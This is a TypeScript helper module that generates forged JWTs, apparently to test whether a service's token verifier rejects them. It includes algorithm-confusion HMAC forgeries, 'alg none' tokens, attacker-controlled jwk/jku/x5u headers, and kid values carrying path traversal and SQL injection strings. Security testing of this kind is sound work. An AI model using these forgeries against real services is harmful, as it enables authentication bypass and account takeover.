/** Tokens that somebody without our private key can make, or that we made for something else. */
import {
  constants,
  createHmac,
  createPublicKey,
  generateKeyPairSync,
  type KeyObject,
  sign as signWith,
} from 'node:crypto'

/** The attacker's material: a true token of theirs, and our public key from `/jwks`. */
export interface Loot {
  token: string
  kid: string
  jwk: { kty: string; n: string; e: string }
  /** An address of theirs that a careless verifier would fetch a key from. */
  listener: string
}

export interface ForgedToken {
  name: string
  token: string
}

type Json = Record<string, unknown>

const encode = (value: Json | string): string =>
  Buffer.from(typeof value === 'string' ? value : JSON.stringify(value)).toString('base64url')

const decode = (part: string | undefined): Json =>
  JSON.parse(Buffer.from(part ?? '', 'base64url').toString()) as Json

/** Every forgery, made from true claims that have not expired. */
export function forgeTokens(loot: Loot): ForgedToken[] {
  const [head, body, signature] = loot.token.split('.')
  const claims = decode(body)
  const header = decode(head)
  return [
    ...forgeHmac(loot, header, claims),
    ...forgeUnsigned(header, claims, loot.token),
    ...forgeOwnKey(loot, header, claims),
    {
      name: 'claims changed, signature kept',
      token: `${head}.${encode({ ...claims, sub: '1' })}.${signature}`,
    },
    {
      name: 'header changed, signature kept',
      token: `${encode({ ...header, x: 1 })}.${body}.${signature}`,
    },
    { name: 'signature cut by one', token: loot.token.slice(0, -4) },
    { name: 'a fourth part', token: `${loot.token}.x` },
    { name: 'two parts', token: `${head}.${body}` },
    { name: 'no parts', token: 'x' },
    { name: 'claims that are no JSON', token: `${head}.${encode('{')}.${signature}` },
    {
      name: 'b64 false',
      token: `${encode({ ...header, b64: false, crit: ['b64'] })}.${body}.${signature}`,
    },
    {
      name: 'an unknown crit',
      token: `${encode({ ...header, crit: ['x'] })}.${body}.${signature}`,
    },
  ]
}

/** node-jsonwebtoken#69, @elysiajs/jwt: the public key taken for the secret of an HMAC. */
function forgeHmac(loot: Loot, header: Json, claims: Json): ForgedToken[] {
  const key = createPublicKey({ key: loot.jwk, format: 'jwk' })
  const pem = key.export({ type: 'spki', format: 'pem' }).toString()
  const secrets: [string, string | Buffer][] = [
    ['PEM', pem.trimEnd()],
    ['PEM and a line break', pem],
    ['PKCS #1 PEM', key.export({ type: 'pkcs1', format: 'pem' }).toString()],
    ['DER', key.export({ type: 'spki', format: 'der' })],
    ['modulus', loot.jwk.n],
    ['modulus bytes', Buffer.from(loot.jwk.n, 'base64url')],
    ['JWK', JSON.stringify(loot.jwk)],
    ['an empty secret', ''],
  ]
  return [256, 384, 512].flatMap((bits) =>
    secrets.map(([secret, key]) => {
      const text = `${encode({ ...header, alg: `HS${bits}` })}.${encode(claims)}`
      const mac = createHmac(`sha${bits}`, key).update(text).digest('base64url')
      return { name: `HS${bits} with the ${secret}`, token: `${text}.${mac}` }
    }),
  )
}

function forgeUnsigned(header: Json, claims: Json, token: string): ForgedToken[] {
  const algorithms = ['none', 'None', 'NONE', 'nOnE', '', null, 0, [], undefined]
  return [
    ...algorithms.flatMap((alg) => {
      const text = `${encode({ ...header, alg })}.${encode(claims)}`
      return [
        { name: `alg ${JSON.stringify(alg)}`, token: `${text}.` },
        { name: `alg ${JSON.stringify(alg)}, signed`, token: `${text}.${token.split('.')[2]}` },
      ]
    }),
    { name: 'signature stripped', token: token.replace(/[^.]*$/, '') },
  ]
}

/** CVE-2018-0114, CVE-2025-65945: a key of the attacker's own that the header points to. */
function forgeOwnKey(loot: Loot, header: Json, claims: Json): ForgedToken[] {
  const own = generateKeyPairSync('rsa', { modulusLength: 2048 })
  const jwk = own.publicKey.export({ format: 'jwk' })
  const headers: [string, Json][] = [
    ['our kid', {}],
    ['jwk', { jwk }],
    ['jwk without kid', { jwk, kid: undefined }],
    ['jku', { jku: `${loot.listener}/keys` }],
    ['x5u', { x5u: `${loot.listener}/chain` }],
    ['x5c', { x5c: [Buffer.from('x').toString('base64')] }],
    ['kid of a file', { kid: '../../dev/null' }],
    ['kid of SQL', { kid: "' OR 1=1--" }],
    ['kid of a prototype', { kid: '__proto__' }],
    ['kid of an object', { kid: { toString: loot.kid } }],
    ['no kid', { kid: undefined }],
    ['another type', { typ: 'JWT' }],
    ['a kid of 1 MB', { kid: 'k'.repeat(1_000_000) }],
  ]
  const ec = generateKeyPairSync('ec', { namedCurve: 'P-256' })
  return [
    ...headers.map(([name, more]) => ({
      name: `own RSA key, ${name}`,
      token: signRsa({ ...header, ...more }, claims, own.privateKey, 'sha256'),
    })),
    {
      name: 'RS384',
      token: signRsa({ ...header, alg: 'RS384' }, claims, own.privateKey, 'sha384'),
    },
    { name: 'PS256', token: signPss({ ...header, alg: 'PS256' }, claims, own.privateKey) },
    { name: 'ES256', token: signEc({ ...header, alg: 'ES256' }, claims, ec.privateKey) },
  ]
}

const textOf = (header: Json, claims: Json): string => `${encode(header)}.${encode(claims)}`

/** A token signed by RSASSA-PKCS1-v1_5: RS256 with `sha256`. */
export function signRsa(header: Json, claims: Json, key: KeyObject, hash: string): string {
  const text = textOf(header, claims)
  return `${text}.${signWith(hash, Buffer.from(text), key).toString('base64url')}`
}

/** A token signed by RSASSA-PSS. */
export function signPss(header: Json, claims: Json, key: KeyObject): string {
  const text = textOf(header, claims)
  const padding = { key, padding: constants.RSA_PKCS1_PSS_PADDING, saltLength: 32 }
  return `${text}.${signWith('sha256', Buffer.from(text), padding).toString('base64url')}`
}

function signEc(header: Json, claims: Json, key: KeyObject): string {
  const text = textOf(header, claims)
  const signature = signWith('sha256', Buffer.from(text), { key, dsaEncoding: 'ieee-p1363' })
  return `${text}.${signature.toString('base64url')}`
}
